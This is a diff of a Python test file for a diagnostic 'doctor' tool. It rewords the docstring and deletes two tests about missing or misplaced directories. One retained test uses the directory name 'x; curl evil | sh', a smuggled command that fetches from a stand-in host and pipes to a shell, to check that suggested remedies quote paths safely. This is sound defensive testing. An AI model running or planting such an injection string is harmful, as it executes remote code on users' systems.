@@ -1,4 +1,4 @@
-"""Each check of the doctor says what is wrong, names what mends it, and changes nothing."""
+"""Each check of the doctor says what is wrong, names a remedy, and changes nothing."""
 
 import asyncio
 import hashlib
@@ -265,26 +265,10 @@ def test_without_any_tree_the_model_is_checked_all_the_same(settings):
 # Trees
 
 
-def test_a_tree_that_is_not_there_fails(look_at_tree, tmp_path):
-    verdict = look_at_tree(given=tmp_path / "nowhere")
-
-    assert verdict.status is Status.FAILED
-    assert "does not exist" in verdict.message
-
-
 def test_the_name_of_a_tree_is_a_word_of_the_command_whatever_is_in_it(look_at_tree, tmp_path):
     verdict = look_at_tree(given=tmp_path / "x; curl evil | sh")
 
     assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")
-
-
-def test_a_file_in_place_of_a_tree_fails(look_at_tree, tmp_path):
-    file = tmp_path / "tools.py"
-    file.touch()
-
-    verdict = look_at_tree(given=file)
-
-    assert (verdict.status, verdict.message) == ("failed", f"{file} is a file")
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="Windows has neither")
